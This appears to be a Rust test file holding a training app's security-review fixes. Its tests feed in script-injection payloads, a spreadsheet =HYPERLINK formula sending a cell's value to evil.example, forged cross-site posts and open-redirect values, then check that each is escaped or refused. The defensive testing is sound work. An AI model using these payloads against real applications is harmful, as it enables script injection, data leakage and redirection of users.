//! Findings of the security review (issue 19), each held by a test that failed before its fix.

use crate::support::*;
use reqwest::StatusCode;

/// What a hostile trainer or a crafted link would put where the page writes it.
const TITLE_PAYLOAD: &str = "題</title><script>window.injected=1</script>";
const TEXTAREA_PAYLOAD: &str = "要約</textarea><script>window.injected=2</script>";

#[tokio::test]
async fn user_text_in_the_title_and_text_areas_stays_text() {
    let app = TestApp::spawn(mamori_test_support::fresh_sqlite(), true).await;
    let trainer = app.session_of(TRAINER).await;
    let created = trainer
        .call(
            "create_module",
            &[
                ("slug", "payload"),
                ("title", TITLE_PAYLOAD),
                ("summary", TEXTAREA_PAYLOAD),
                ("estimated_minutes", "5"),
            ],
        )
        .await;
    assert_eq!(created.status(), StatusCode::OK);
    // Stored: the module's own title and summary. Reflected: a link that puts a description
    // back into the upload form's text area.
    let reflected = format!(
        "/trainer/modules/payload?upload_error=failed&kind=document&description={}",
        mamori_domain::url::encode(TEXTAREA_PAYLOAD)
    );
    for path in ["/trainer/modules/payload", reflected.as_str()] {
        let (status, _, html) = trainer.page(path).await;
        assert_eq!(status, StatusCode::OK, "{path}");
        assert!(
            !html.contains("<script>window.injected"),
            "{path}: user text ran as markup: {html}"
        );
        let title = &html[html.find("<title>").unwrap()..html.find("</title>").unwrap()];
        assert!(
            title.contains("題&lt;/title&gt;&lt;script&gt;"),
            "{path}: the title shows the text as typed: {title}"
        );
        assert!(
            html.contains("要約&lt;/textarea&gt;&lt;script&gt;"),
            "{path}: the text area holds the text as typed"
        );
    }
}

#[tokio::test]
async fn exports_write_a_formula_in_a_name_as_text() {
    let app = TestApp::spawn(mamori_test_support::fresh_sqlite(), true).await;
    let admin = app.session_of(ADMIN).await;
    let learner = mamori_domain::EmployeeId::parse(LEARNER).unwrap();
    let now = chrono::Utc::now();
    let today = mamori_domain::agency_date(now);
    // Assigned to everyone, so that the person is in the report.
    mamori_test_support::publish_media_module(&app.store, now).await;
    app.store
        .assign_module(
            &mamori_test_support::slug("media"),
            mamori_domain::FiscalYear::containing(today),
            &mamori_domain::training::AssignmentTarget::Everyone,
            mamori_domain::training::DueRule::on(today + chrono::Duration::days(30)),
            TRAINER,
            now,
        )
        .await
        .unwrap();
    let person = app.store.staff_summary(&learner, today).await.unwrap();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&B2,\"クリック\")";
    let mut form = vec![
        ("employee_id".to_string(), LEARNER.to_string()),
        ("name".to_string(), formula.to_string()),
        ("email".to_string(), person.email.clone()),
        ("division".to_string(), person.division.clone()),
    ];
    for (i, role) in person.security_roles.iter().enumerate() {
        form.push((format!("roles[{i}]"), role.code().to_string()));
    }
    let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let edited = admin.call("edit_staff", &form).await;
    assert_eq!(edited.status(), StatusCode::OK, "{:?}", edited.text().await);
    // Every CSV is written by `mamori_domain::csv::write` (its unit test covers each kind of
    // cell); these are the exports that carry people's names.
    for path in ["/admin/staff/export.csv", "/reports/people.csv"] {
        let response = admin.get(path).await;
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        let text = response.text().await.unwrap();
        let starts: Vec<usize> = text.match_indices("=HYPERLINK").map(|(at, _)| at).collect();
        assert!(!starts.is_empty(), "{path} names the person: {text}");
        for at in starts {
            assert_eq!(
                &text[at - 1..at],
                "'",
                "{path}: a live formula: {}",
                &text[at.saturating_sub(20)..at + 20]
            );
        }
    }
}

#[tokio::test]
async fn requests_from_another_site_are_refused_and_change_nothing() {
    let app = TestApp::spawn(mamori_test_support::fresh_sqlite(), true).await;
    let admin = app.session_of(ADMIN).await;
    let post = |path: &str, header: &'static str, value: &str| {
        admin
            .client
            .post(format!("{}{path}", app.address))
            .header(header, value)
    };
    let evil = "http://evil.example";
    // Server functions (with the admin's cookie), a plain route, and the language switch.
    let attempts = [
        post("/api/logout", "origin", evil).form(&[("", "")]),
        post("/api/logout", "referer", &format!("{evil}/page")).form(&[("", "")]),
        post("/api/logout", "origin", "null").form(&[("", "")]),
        post("/admin/staff/import", "origin", evil)
            .multipart(reqwest::multipart::Form::new().text("mode", "sync")),
        post("/language", "origin", evil).form(&[("lang", "en"), ("back", "/")]),
    ];
    for attempt in attempts {
        let response = attempt.send().await.unwrap();
        assert_eq!(response.status(), StatusCode::FORBIDDEN);
        assert!(
            response
                .text()
                .await
                .unwrap()
                .contains("ほかのサイトから送られた操作は受け付けません"),
        );
    }
    // Still logged in, still in Japanese: nothing changed.
    let (status, _, html) = admin.page("/admin/staff").await;
    assert_eq!(status, StatusCode::OK);
    assert!(html.contains("<html lang=\"ja\""));
    // The site's own origin passes.
    let own = post("/api/logout", "origin", &app.address)
        .form(&[("", "")])
        .send()
        .await
        .unwrap();
    assert_eq!(own.status(), StatusCode::OK);
    let (status, _, _) = admin.page("/admin/staff").await;
    assert_ne!(
        status,
        StatusCode::OK,
        "logged out by a post from the site itself"
    );
}

#[tokio::test]
async fn pages_server_functions_and_downloads_carry_the_security_headers() {
    let app = TestApp::spawn(mamori_test_support::fresh_sqlite(), true).await;
    let admin = app.session_of(ADMIN).await;
    let answers = [
        ("page", admin.get("/admin/staff").await),
        ("login page", app.get("/login").await),
        ("server function", admin.call("current_user", &[]).await),
        ("download", admin.get("/admin/staff/export.csv").await),
        ("refusal", app.get("/admin/staff/export.csv").await),
    ];
    for (what, response) in answers {
        let headers = response.headers();
        let header = |name: &str| {
            headers
                .get(name)
                .map(|v| v.to_str().unwrap().to_string())
                .unwrap_or_default()
        };
        let policy = header("content-security-policy");
        for directive in [
            "frame-ancestors 'none'",
            "object-src 'none'",
            "base-uri 'none'",
            "form-action 'self'",
        ] {
            assert!(policy.contains(directive), "{what}: {policy}");
        }
        assert_eq!(header("x-frame-options"), "DENY", "{what}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{what}");
        assert_eq!(header("referrer-policy"), "same-origin", "{what}");
        assert_eq!(header("cache-control"), "no-store", "{what}");
        // Served over plain http here: no HSTS.
        assert_eq!(header("strict-transport-security"), "", "{what}");
    }
}

#[tokio::test]
async fn a_stranger_is_sent_to_log_in_and_comes_back_to_the_page_asked_for() {
    let app = TestApp::spawn(mamori_test_support::fresh_sqlite(), true).await;
    // Before: `/` answered 401 with an empty page and no way on without JavaScript.
    for (path, login) in [
        ("/", "/login"),
        ("/reports?year=2026", "/login?next=%2Freports%3Fyear%3D2026"),
        ("/modules/media", "/login?next=%2Fmodules%2Fmedia"),
    ] {
        let (status, location, _) = app.page(path).await;
        assert_eq!(
            (status, location.as_deref()),
            (StatusCode::SEE_OTHER, Some(login)),
            "{path}"
        );
    }
    assert_eq!(app.page("/login").await.0, StatusCode::OK);

    // The login returns to an own path, and never to another site.
    for (next, lands) in [
        ("/reports?year=2026", "/reports?year=2026"),
        ("//evil.example/", "/manager"),
        ("https://evil.example/", "/manager"),
        ("/\\evil.example", "/manager"),
    ] {
        let stranger = app.session_of("").await;
        let answer: String = stranger
            .call(
                "login",
                &[("login", MANAGER), ("password", PASSWORD), ("next", next)],
            )
            .await
            .json()
            .await
            .unwrap();
        assert_eq!(answer, lands, "next={next}");
        let form_post = stranger
            .client
            .post(format!("{}/api/login", app.address))
            .header("accept", "text/html")
            .form(&[("login", MANAGER), ("password", PASSWORD), ("next", next)])
            .send()
            .await
            .unwrap();
        assert_eq!(form_post.headers()["location"], lands, "next={next}");
    }
}

#[tokio::test]
async fn only_the_pages_own_scripts_carry_its_nonce() {
    let app = TestApp::spawn(mamori_test_support::fresh_sqlite(), true).await;
    let admin = app.session_of(ADMIN).await;
    let mut nonces = Vec::new();
    for path in ["/admin/staff", "/admin/staff"] {
        let response = admin.get(path).await;
        let policy = response.headers()["content-security-policy"]
            .to_str()
            .unwrap()
            .to_string();
        let nonce = policy
            .split_once("'nonce-")
            .and_then(|(_, rest)| rest.split_once('\''))
            .map(|(nonce, _)| nonce.to_string())
            .unwrap_or_else(|| panic!("a nonce in {policy}"));
        assert!(
            policy.contains("script-src 'self' 'nonce-") && !policy.contains("unsafe-inline"),
            "{policy}"
        );
        let html = response.text().await.unwrap();
        let scripts: Vec<&str> = html.split("<script").skip(1).collect();
        assert!(!scripts.is_empty(), "the page hydrates with a script");
        for script in scripts {
            let tag = &script[..script.find('>').unwrap()];
            assert!(
                tag.contains(&format!("nonce=\"{nonce}\"")),
                "a script without the nonce: <script{tag}>"
            );
        }
        nonces.push(nonce);
    }
    assert_ne!(nonces[0], nonces[1], "each answer has its own nonce");
}

#[tokio::test]
async fn repeated_failed_logins_hold_an_account_back_until_an_admin_lifts_it() {
    let app = TestApp::spawn(mamori_test_support::fresh_sqlite(), true).await;
    let stranger = app.session_of("").await;
    for name in [LEARNER, "E9999"] {
        for _ in 0..5 {
            let refused = stranger
                .call("login", &[("login", name), ("password", "guess")])
                .await;
            assert_eq!(refused.status(), StatusCode::UNPROCESSABLE_ENTITY, "{name}");
        }
        // Before: the right password logged in at once after 30 failures.
        let held = stranger
            .call("login", &[("login", name), ("password", PASSWORD)])
            .await;
        assert_eq!(held.status(), StatusCode::TOO_MANY_REQUESTS, "{name}");
        let error: serde_json::Value = held.json().await.unwrap();
        assert_eq!(
            error,
            serde_json::json!({ "LoginHeldBack": { "minutes": 15 } }),
            "{name}: the same answer whether the account exists or not"
        );
    }

    let admin = app.session_of(ADMIN).await;
    let person: serde_json::Value = admin
        .call("staff_member", &[("employee_id", LEARNER)])
        .await
        .json()
        .await
        .unwrap();
    assert!(person["login_held_until"].is_string(), "{person}");
    let failed = &person["changes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["action"] == "LoginFailed")
        .expect("failures are audited");
    assert_eq!(failed["actor"], LEARNER);
    assert_eq!(failed["detail"], "from 127.0.0.1", "with the address");
    let (status, _, html) = admin.page(&format!("/admin/staff/{LEARNER}")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        html.contains("までログインできません"),
        "the page shows the hold"
    );

    let trainer = app.session_of(TRAINER).await;
    let lift = [("employee_id", LEARNER)];
    assert_eq!(
        trainer.call("lift_login_hold", &lift).await.status(),
        StatusCode::FORBIDDEN,
        "only admins lift a hold"
    );
    assert_eq!(
        admin.call("lift_login_hold", &lift).await.status(),
        StatusCode::OK
    );
    assert_eq!(stranger.login(LEARNER).await.status(), StatusCode::OK);
}

#[tokio::test]
async fn people_list_their_sessions_and_end_them_all_and_a_leaver_is_out_at_once() {
    let app = TestApp::spawn(mamori_test_support::fresh_sqlite(), true).await;
    let office = app.session_of(MANAGER).await;
    let phone = app.session_of(MANAGER).await;
    let sessions: serde_json::Value = office.call("my_sessions", &[]).await.json().await.unwrap();
    let sessions = sessions.as_array().unwrap();
    assert_eq!(sessions.len(), 2, "{sessions:?}");
    assert_eq!(
        sessions.iter().filter(|s| s["current"] == true).count(),
        1,
        "this one is marked"
    );
    assert_eq!(sessions[0]["address"], "127.0.0.1");
    let (status, _, html) = office.page("/account").await;
    assert_eq!(status, StatusCode::OK);
    assert!(html.contains("すべての端末からログアウト"));

    // Before: nothing listed the sessions, and each ended only by its own logout.
    assert_eq!(
        phone.call("log_out_everywhere", &[]).await.status(),
        StatusCode::OK
    );
    for session in [&office, &phone] {
        let me: serde_json::Value = session
            .call("current_user", &[])
            .await
            .json()
            .await
            .unwrap();
        assert_eq!(me, serde_json::Value::Null, "every session ended");
    }

    // Recorded as leaving today: out at once, not at midnight.
    let learner = app.session_of(LEARNER).await;
    let admin = app.session_of(ADMIN).await;
    assert_eq!(
        admin
            .call("deactivate_staff", &[("employee_id", LEARNER)])
            .await
            .status(),
        StatusCode::OK
    );
    let me: serde_json::Value = learner
        .call("current_user", &[])
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(me, serde_json::Value::Null, "the leaver's session ended");
    assert_eq!(
        learner.login(LEARNER).await.status(),
        StatusCode::UNPROCESSABLE_ENTITY,
        "and the password no longer works"
    );
}

#[tokio::test]
async fn a_clients_mistake_is_a_4xx_and_the_login_is_checked_first() {
    let app = TestApp::spawn(mamori_test_support::fresh_sqlite(), true).await;
    let stranger = app.session_of("").await;
    let admin = app.session_of(ADMIN).await;
    // Before: each of these answered 500.
    assert_eq!(
        stranger.call("search_staff", &[]).await.status(),
        StatusCode::UNAUTHORIZED,
        "a stranger is refused before the arguments are read"
    );
    assert_eq!(
        admin
            .call("search_staff", &[("query", ""), ("page", "abc")])
            .await
            .status(),
        StatusCode::BAD_REQUEST
    );
    assert_eq!(
        admin.call("search_staff", &[]).await.status(),
        StatusCode::BAD_REQUEST
    );
    let huge = "x".repeat(3 * 1024 * 1024);
    assert_eq!(
        admin
            .call("search_staff", &[("query", huge.as_str()), ("page", "1")])
            .await
            .status(),
        StatusCode::PAYLOAD_TOO_LARGE
    );
    // The same sent in chunks, so that no length is declared (before: 500).
    let three_megabytes = || vec![vec![b'x'; 64 * 1024]; 48];
    assert_eq!(
        post_in_chunks(&admin, three_megabytes()).await,
        StatusCode::PAYLOAD_TOO_LARGE
    );
    // A stranger's is refused for who they are, before any of it is read.
    assert_eq!(
        post_in_chunks(&stranger, three_megabytes()).await,
        StatusCode::UNAUTHORIZED
    );
    let small = post_in_chunks(&admin, vec![b"query=&".to_vec(), b"page=1".to_vec()]).await;
    assert_eq!(small, StatusCode::OK, "a small chunked body is read");

    // Before: 2147483647 minutes were saved.
    let trainer = app.session_of(TRAINER).await;
    for minutes in ["2147483647", "0", "-5"] {
        let created = trainer
            .call(
                "create_module",
                &[
                    ("slug", "absurd"),
                    ("title", "所要時間"),
                    ("summary", ""),
                    ("estimated_minutes", minutes),
                ],
            )
            .await;
        assert_eq!(
            created.status(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "{minutes} minutes"
        );
    }
    assert!(
        app.store
            .modules()
            .await
            .unwrap()
            .iter()
            .all(|m| m.slug.as_str() != "absurd"),
        "nothing saved"
    );
}

#[tokio::test]
async fn admins_read_the_audit_of_publishing_assignments_settings_and_downloads_which_stays() {
    let app = TestApp::spawn(mamori_test_support::fresh_sqlite(), true).await;
    mamori_test_support::publish_media_module(&app.store, chrono::Utc::now()).await;
    let trainer = app.session_of(TRAINER).await;
    let admin = app.session_of(ADMIN).await;
    // Before: none of these was recorded.
    assert_eq!(
        trainer
            .call("archive_module", &[("slug", "media")])
            .await
            .status(),
        StatusCode::OK
    );
    assert_eq!(
        trainer
            .call("publish_module", &[("slug", "media")])
            .await
            .status(),
        StatusCode::OK
    );
    assert_eq!(
        admin
            .call(
                "save_holidays",
                &[("text", "date,name\n2027-01-04,仕事始め前の休日\n")]
            )
            .await
            .status(),
        StatusCode::OK
    );
    assert_eq!(
        admin.get("/reports/people.csv").await.status(),
        StatusCode::OK
    );

    let page: serde_json::Value = admin
        .call("audit_log", &[("person", TRAINER)])
        .await
        .json()
        .await
        .unwrap();
    let actions: Vec<&str> = page["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(
        actions,
        ["ModulePublished", "ModuleArchived", "Login"],
        "newest first, the trainer's only"
    );
    assert!(
        page["entries"][0]["detail"]
            .as_str()
            .unwrap()
            .starts_with("media; from 127.0.0.1"),
        "{page}"
    );

    let downloads: serde_json::Value = admin
        .call("audit_log", &[("action", "data.export")])
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(downloads["total"], 1, "{downloads}");
    assert_eq!(downloads["entries"][0]["actor"], ADMIN);
    assert!(
        downloads["entries"][0]["detail"]
            .as_str()
            .unwrap()
            .starts_with("/reports/people.csv"),
        "{downloads}"
    );

    let rows = csv_rows(admin.get("/admin/audit.csv?action=mail.settings").await).await;
    assert_eq!(rows.len(), 2, "a header and the holidays: {rows:?}");
    assert_eq!(rows[1][1], ADMIN);
    assert_eq!(rows[1][2], "メール設定の変更");
}

#[tokio::test]
async fn mail_templates_holidays_and_inspection_items_stay_text_in_text_areas_and_the_learners_sheet()
 {
    let app = TestApp::spawn(mamori_test_support::fresh_sqlite(), true).await;
    let admin = app.session_of(ADMIN).await;
    for (endpoint, form) in [
        (
            "save_mail_template",
            vec![
                ("kind", "notice"),
                ("subject", TEXTAREA_PAYLOAD),
                ("body", TEXTAREA_PAYLOAD),
            ],
        ),
        (
            "save_holidays",
            vec![(
                "text",
                "date,name\n2027-01-04,休</textarea><script>window.injected=2</script>",
            )],
        ),
        // Open for answers, so that a learner's sheet shows the item too.
        (
            "save_inspection_campaign",
            vec![
                ("fiscal_year", "2090"),
                ("opens_on", "2000-04-01"),
                ("closes_on", "2100-03-31"),
            ],
        ),
        (
            "add_inspection_item",
            vec![
                ("fiscal_year", "2090"),
                ("item_id", "X-1"),
                ("group", "staff"),
                ("text", TEXTAREA_PAYLOAD),
            ],
        ),
    ] {
        let saved = admin.call(endpoint, &form).await;
        assert_eq!(saved.status(), StatusCode::OK, "{endpoint}");
    }
    let learner = app.session_of(LEARNER).await;
    for (viewer, path) in [
        (&admin, "/admin/mail"),
        (&admin, "/admin/inspection/2090"),
        (&learner, "/inspection/2090"),
    ] {
        let (status, _, html) = viewer.page(path).await;
        assert_eq!(status, StatusCode::OK, "{path}");
        assert!(
            !html.contains("<script>window.injected"),
            "{path}: user text ran as markup"
        );
        assert!(
            html.contains("&lt;/textarea&gt;&lt;script&gt;"),
            "{path}: the text shows as typed"
        );
    }
}

/// Posts `chunks` to `search_staff` as `session`, without declaring their length.
async fn post_in_chunks(session: &TestApp, chunks: Vec<Vec<u8>>) -> StatusCode {
    let stream = futures_util::stream::iter(chunks.into_iter().map(Ok::<_, std::io::Error>));
    session
        .client
        .post(format!("{}/api/search_staff", session.address))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(reqwest::Body::wrap_stream(stream))
        .send()
        .await
        .unwrap()
        .status()
}
